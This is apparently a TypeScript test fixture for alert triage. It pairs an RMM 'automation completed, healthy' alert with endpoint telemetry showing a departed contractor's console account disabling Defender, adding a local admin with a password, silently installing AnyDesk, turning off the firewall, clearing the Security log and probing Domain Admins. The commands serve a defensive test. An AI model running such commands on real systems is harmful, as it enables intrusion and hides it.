// A management console reports that the care of a server went well. It was care by somebody who has left.
import { alert, connected, hostile, loggedOn, ran, situation } from '../../shorthand.ts'

export const quarterlyCareWentWell = situation(
  'quarterly-care-went-well',
  'vocabulary',
  'Quarterly care of a server completed without errors',
  (setting) => {
    const paula = setting.person('paula.ortiz')
    const server = setting.machine('srv-print-03')
    const at = setting.ago({ hours: 1, minutes: 8 })
    const relay = '57.128.101.75'
    const job = (seconds: number, program: string, command: string, parent = 'cmd.exe') =>
      ran(server, at + seconds * 1000, program, command, { AccountName: 'system', InitiatingProcessFileName: parent })
    const field = (name: string, value: string) => `  <${name}><![CDATA[${value}]]></${name}>`
    return {
      alerts: [
        alert(
          setting,
          at + 180_000,
          'n_able_ncentral',
          'Automation policy completed',
          [
            '<?xml version="1.0" encoding="UTF-8"?>',
            '<notification>',
            field('ActiveNotificationTriggerID', '1140882071'),
            field('NotificationTypeID', '4'),
            field('ExternalCustomerID', ''),
            field('CustomerName', 'Havskog Instruments'),
            field('SiteName', 'Boston'),
            field('DeviceURI', server.ip),
            field('DeviceName', server.host.toUpperCase()),
            field('DeviceClass', 'Servers - Windows'),
            field('DeviceFilters', 'Servers; Print; Patch ring 3'),
            field('ProbeURI', 'probe-bos-1'),
            field('AffectedService', 'Automation Policy'),
            field('TaskIdent', 'Quarterly care - light touch v7'),
            field(
              'TaskNote',
              'Created from template "Care". Requested by: product user. Ticket: none. Maintenance window: ignored.',
            ),
            field('QualitativeOldState', 'No Data'),
            field('QualitativeNewState', 'Normal'),
            field(
              'TimeOfStateChange',
              setting
                .iso(at + 170_000)
                .slice(0, 19)
                .replace('T', ' '),
            ),
            field(
              'QuantitativeNewState',
              [
                'Exit code: 0',
                'Step 1/7 relax local scanner ............ ok',
                'Step 2/7 leave care path in peace ....... ok',
                'Step 3/7 helper account present ......... ok (hlthsvc)',
                'Step 4/7 helper may help ................ ok',
                'Step 5/7 remote care channel ............ ok (id 1 402 771 880)',
                'Step 6/7 host firewall hint ............. ok',
                'Step 7/7 tidy journals .................. ok',
                'Elapsed: 00:02:31. Warnings: 0. Errors: 0. Overall: HEALTHY',
              ].join('\n'),
            ),
            field('NotificationProfile', 'Info - automation finished'),
            field('Severity', 'Informational'),
            field('RunAs', 'LocalSystem'),
            field('InitiatedBy', `${paula.account}@ncentral (Product Administrator)`),
            field('InitiatedFrom', 'API, JWT user token'),
            field('ScheduledTaskID', '902118841'),
            field('AgentVersion', '2025.4.1.18'),
            field('ServerVersion', '2025.4.0.9'),
            field('OSName', 'Windows Server 2022 Standard 21H2'),
            field('LastPatchScan', 'Compliant, 0 missing'),
            field('AVDefender', 'not licensed'),
            field('SelfHealing', 'none'),
            field('Acknowledged', 'false'),
            field('CustomDeviceProperty', 'Owner=;CostCentre=7100;Floor=2;Rack='),
            field('RemoteControlLink', 'https://ncentral.havskoginstruments.com/deepLinkAction.do?method=deviceRC'),
            field(
              'ServiceDetailsLink',
              'https://ncentral.havskoginstruments.com/deepLinkAction.do?method=defaultDashboard&taskID=902118841',
            ),
            '  <ActiveNotificationRecipients><Recipient>soc-intake</Recipient></ActiveNotificationRecipients>',
            '  <CorrelatedTasks/>',
            '</notification>',
          ].join('\n'),
        ),
      ],
      facts: {
        telemetry: [
          job(
            0,
            'powershell.exe',
            'powershell.exe -ExecutionPolicy Bypass -File C:\\ProgramData\\N-able\\Tasks\\902118841.ps1',
            'AutomationManager.ScriptRunner64.exe',
          ),
          job(
            8,
            'powershell.exe',
            'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true',
            'powershell.exe',
          ),
          job(14, 'powershell.exe', 'powershell.exe Add-MpPreference -ExclusionPath C:\\', 'powershell.exe'),
          job(25, 'net.exe', 'net user hlthsvc Winter-4471! /add', 'powershell.exe'),
          job(29, 'net.exe', 'net localgroup administrators hlthsvc /add', 'powershell.exe'),
          job(
            61,
            'AnyDesk.exe',
            'AnyDesk.exe --install C:\\ProgramData\\care --start-with-win --silent',
            'powershell.exe',
          ),
          job(
            70,
            'cmd.exe',
            'cmd.exe /c echo Winter-4471! | C:\\ProgramData\\care\\AnyDesk.exe --set-password',
            'powershell.exe',
          ),
          job(95, 'netsh.exe', 'netsh advfirewall set allprofiles state off', 'powershell.exe'),
          job(130, 'wevtutil.exe', 'wevtutil.exe cl Security', 'powershell.exe'),
          connected(server, at + 80_000, relay, {
            RemoteUrl: 'relay-4f1a.net.anydesk.com',
            InitiatingProcessFileName: 'AnyDesk.exe',
            InitiatingProcessAccountName: 'system',
          }),
          loggedOn(server, at + 9 * 60_000, 'hlthsvc', { LogonType: 'Interactive', IsLocalAdmin: true }),
          ran(server, at + 12 * 60_000, 'cmd.exe', 'cmd.exe /c nltest /dclist: & net group "Domain Admins" /domain', {
            AccountName: 'hlthsvc',
            InitiatingProcessFileName: 'explorer.exe',
          }),
        ],
      },
      expected: { ...hostile(server.host), severities: ['high', 'critical'] },
      because:
        'The healthy care switched the scanner and the firewall off, made an administrator, installed a remote tool with a password and emptied the journal. The console account is that of a contractor who left two months ago, and the new account soon asked for the domain administrators.',
    }
  },
)
